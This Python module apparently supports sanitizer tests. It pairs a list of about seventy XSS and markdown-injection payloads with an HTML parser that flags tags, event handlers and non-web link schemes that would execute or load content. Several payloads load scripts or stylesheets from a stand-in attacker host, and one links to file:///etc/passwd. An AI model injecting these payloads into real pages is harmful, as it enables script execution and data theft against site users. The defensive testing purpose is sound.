"""What attackers write to make a page run something; gathered from public lists (OWASP, PortSwigger, markdown-it, showdown)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

__all__ = ["PAYLOADS", "Live", "live"]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "<math><mtext></p><style><!--</style><img src onerror=alert(1)>--></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](https://a.example/\"onclick=\"alert(1))",
    "[x](https://a.example 'x\" onclick=\"alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "![x][2]\n\n[2]: https://evil.example/pixel.png",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    "`<script>alert(1)</script>`",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
    "${alert(1)}<%= 7*7 %>",
]

_HARMLESS = "a em strong p br code pre ul ol li blockquote h1 h2 h3 h4 h5 h6 hr".split()


class Live(HTMLParser):
    """Reads HTML as a browser would; `alive` lists what is not harmless text or a harmless link."""

    def __init__(self, also: tuple[str, ...] = ()) -> None:
        super().__init__(convert_charrefs=True)
        self.alive: list[str] = []
        self.allowed = {*_HARMLESS, *also}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.allowed:
            self.alive.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "src", "action", "formaction", "id", "name", "target"):
                self.alive.append(f"{tag} {name}={value}")
            if name == "href" and not _harmless(value or ""):
                self.alive.append(f"{tag} href={value}")

    def handle_decl(self, decl: str) -> None:
        self.alive.append(f"<!{decl}>")

    def handle_comment(self, data: str) -> None:
        self.alive.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.alive.append(f"<?{data}>")


def _harmless(address: str) -> bool:
    """As a browser reads an address: tabs and line breaks dropped, a backslash is a slash; any scheme but the web's acts or leads away."""
    address = re.sub(r"[\t\n\r]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/").casefold()
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", address)
    return scheme[1] in ("https", "http") if scheme else not address.startswith("//")


def live(text: str) -> list[str]:
    """What of a piece of HTML acts or loads."""
    reader = Live()
    reader.feed(text)
    reader.close()
    return reader.alive
